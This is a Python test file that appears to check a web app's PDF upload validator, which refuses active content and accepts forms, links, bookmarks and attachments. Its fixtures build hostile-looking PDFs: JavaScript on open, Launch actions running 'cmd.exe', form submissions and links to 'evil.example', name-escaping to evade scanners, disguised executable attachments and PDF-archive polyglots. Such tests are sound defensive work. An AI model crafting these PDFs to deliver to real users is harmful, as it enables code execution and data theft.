"""PDF that would run, fetch or send something when opened are refused; forms, links and bookmarks are not."""

import io
import time
import zipfile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name, String

from tests.partenariat.test_depots import examiner

JS = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
LANCER = Dictionary(S=Name.Launch, F=String("cmd.exe"))
ENVOYER = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))
OUVRIR = Dictionary(S=Name.URI, URI=String("http://evil.example/"))
ALLER = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))
HTML = "<?xml version='1.0'?><x><script>1</script></x>"


def pdf(changer=None, *, compresse: bool = True) -> bytes:
    """A page with its text, changed as said; its objects are compressed, as most writers do."""
    document, sortie = pikepdf.new(), io.BytesIO()
    page = document.add_blank_page()
    page.Contents = document.make_stream(b"BT /F1 12 Tf (/JavaScript /Launch) Tj ET")
    document.docinfo["/Title"] = "/OpenAction /AA /JS (titre)"
    if changer:
        changer(document, page)
    modes = pikepdf.ObjectStreamMode
    document.save(sortie, object_stream_mode=modes.generate if compresse else modes.disable)
    return sortie.getvalue()


def racine(**dits):
    return lambda document, _page: [document.Root.__setitem__(f"/{nom}", dit) for nom, dit in dits.items()]


def annotation(**dits):
    def poser(document, page):
        base = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 1, 1]))
        for nom, dit in dits.items():
            base[f"/{nom}"] = dit
        page.Annots = Array([document.make_indirect(base)])

    return poser


def joint(nom: str, contenu: bytes):
    def joindre(document, _page):
        document.attachments[nom] = pikepdf.AttachedFileSpec(document, contenu, filename=nom)

    return joindre


def indirecte(document, _page):
    sorte = document.make_indirect(Name.Launch)
    document.Root.AA = Dictionary(WC=Dictionary(S=sorte, F=String("cmd.exe")))


def a_la_page(document, page):
    page.AA = Dictionary(O=document.make_indirect(Dictionary(S=Name.GoToR, F=String(r"\\evil\x"))))


def enchainee(document, _page):
    suite = document.make_indirect(Array([ALLER, Dictionary(S=Name.GoTo, D=Array([]), Next=OUVRIR)]))
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([]), Next=suite)


def sans_fin(document, _page):
    action = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([])))
    action.Next = action
    document.Root.OpenAction = action


def flux_ailleurs(document, page):
    page.Contents = document.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))


def zip_() -> bytes:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w") as ouverte:
        ouverte.writestr("a.exe", "MZ")
    return sortie.getvalue()


def echappe(contenu: bytes) -> bytes:
    """The same names, written with escapes: lengths change, and readers repair the rest."""
    return contenu.replace(b"/OpenAction", b"/Open#41ction").replace(b"/JavaScript", b"/J#61vaScript")


ABIME = b"%PDF-1.7\n1 0 obj <</Type/Catalog/Open#41ction<</S/J#61vaScript/JS(x)>>>> endobj\n%%EOF\n"
ACTIFS = {
    "JavaScript à l'ouverture": (pdf(racine(OpenAction=JS)), "JavaScript"),
    "JavaScript échappé": (echappe(pdf(racine(OpenAction=JS), compresse=False)), "JavaScript"),
    "JavaScript nommé": (
        pdf(racine(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), JS]))))), "JavaScript"),
    "JavaScript d'un champ": (pdf(annotation(AA=Dictionary(K=JS))), "JavaScript"),
    "JavaScript d'un clic": (pdf(annotation(A=JS)), "JavaScript"),
    "programme": (pdf(racine(AA=Dictionary(WC=LANCER))), "Launch"),
    "programme d'un clic": (pdf(annotation(A=LANCER)), "Launch"),
    "programme dit ailleurs": (pdf(indirecte), "Launch"),
    "envoi à l'ouverture": (pdf(racine(OpenAction=ENVOYER)), "SubmitForm"),
    "adresse à l'ouverture": (pdf(racine(OpenAction=OUVRIR)), "URI"),
    "fichier d'un serveur à la page": (pdf(a_la_page), "GoToR"),
    "actions enchaînées": (pdf(enchainee), "URI"),
    "actions sans fin": (pdf(sans_fin), "trop de travail"),
    "lien JavaScript": (
        pdf(annotation(A=Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")))), "javascript:"),
    "formulaire XFA": (pdf(racine(AcroForm=Dictionary(XFA=String("x")))), "XFA"),
    "animation": (pdf(annotation(Subtype=Name.RichMedia)), "animation"),
    "contenu d'ailleurs": (pdf(flux_ailleurs), "va chercher ailleurs"),
    "page d'ailleurs": (pdf(racine(X=Dictionary(Ref=Dictionary(F=String("http://e/"))))), "va chercher"),
    "programme joint": (pdf(joint("a.exe", b"MZ")), "a.exe"),
    "programme joint sous un autre nom": (pdf(joint("a.xml", b"MZ\0\0")), "a.xml"),
    "document joint": (pdf(joint("a.docx", b"PK")), "a.docx"),
    "page jointe": (pdf(joint("a.xml", HTML.encode())), "a.xml"),
    "archive à la suite": (pdf() + zip_(), "autre format"),
    "archive en commentaire": (pdf() + b"\n%" + zip_(), "autre format"),
    "archive avant la fin": (pdf()[:-6] + b"%" + zip_()[:-2] + b"\x07\0\n%%EOF\n", "autre format"),
    "page à la suite": (pdf() + b"\n<script>alert(1)</script>", "autre format"),
    "programme à la suite": (pdf() + b"\nMZ\x90", "autre format"),
    "archive RAR": (pdf() + b"%Rar!\x1a\x07\0", "autre format"),
    "abîmé": (ABIME, "abîmé"),
    "abîmé, tassé": (b"%PDF-1.7\n1 0 obj <</Type/ObjStm>> endobj\n%%EOF\n", "abîmé"),
}  # fmt: skip


def signe(document, page):
    """A form that was signed: a field, its signature, and a button that sends when it is pressed."""
    signature = document.make_indirect(
        Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("x"))
    )
    champ = Dictionary(FT=Name.Sig, V=signature, F=4, T=String("Signature"))
    annotation(Subtype=Name.Widget, FT=Name.Btn, A=ENVOYER, F=4)(document, page)
    document.Root.AcroForm = Dictionary(
        SigFlags=3, Fields=Array([document.make_indirect(champ), page.Annots[0]])
    )


def signets(document, _page):
    with document.open_outline() as plan:
        plan.root.append(pikepdf.OutlineItem("Un", 0))


INERTES = {
    "nu": pdf(),
    "sans compression": pdf(compresse=False),
    "vue à l'ouverture": pdf(racine(OpenAction=Array([0, Name.Fit]))),
    "page à l'ouverture": pdf(racine(OpenAction=ALLER)),
    "lien": pdf(annotation(A=Dictionary(S=Name.URI, URI=String("https://montreal.ca/")))),
    "lien interne": pdf(annotation(A=ALLER)),
    "autre fichier, d'un clic": pdf(annotation(A=Dictionary(S=Name.GoToR, F=String("annexe.pdf")))),
    "signets": pdf(signets),
    "formulaire signé": pdf(signe),
    "structure": pdf(racine(StructTreeRoot=Dictionary(K=Dictionary(S=Name.P, A=Dictionary(O=Name.Layout))))),
    "facture": pdf(joint("factur-x.xml", b"<?xml version='1.0'?><Facture total='10'/>")),
    "données": pdf(joint("budget.csv", "poste;somme\nÉté;3\n".encode())),
    "enregistré deux fois": pdf() + b"\n%%EOF\n",
    "suivi de blancs": pdf() + b"\r\n\0\0\n",
    "abîmé, sans rien d'actif": b"%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\n%%EOF\n",
}


@pytest.mark.parametrize("cas", ACTIFS)
def test_a_pdf_that_acts_by_itself_is_refused_and_told_what_to_do(cas):
    contenu, mot = ACTIFS[cas]
    with pytest.raises(ValidationError) as refus:
        examiner(contenu)
    assert mot in refus.value.messages[0]


@pytest.mark.parametrize("cas", INERTES)
def test_an_ordinary_pdf_is_taken(cas):
    assert examiner(INERTES[cas]).taille == len(INERTES[cas])


def test_many_objects_are_looked_at_in_seconds():
    def charger(document, page):
        lien = {"Type": Name.Annot, "A": Dictionary(S=Name.URI, URI=String("https://montreal.ca/"))}
        page.Annots = Array([document.make_indirect(Dictionary(**lien)) for _ in range(5_000)])
        document.Root.X = Array([document.make_indirect(Dictionary(Y=rang)) for rang in range(20_000)])

    contenu = pdf(charger)
    debut = time.monotonic()
    assert examiner(contenu).extension == "pdf"
    assert time.monotonic() - debut < 10
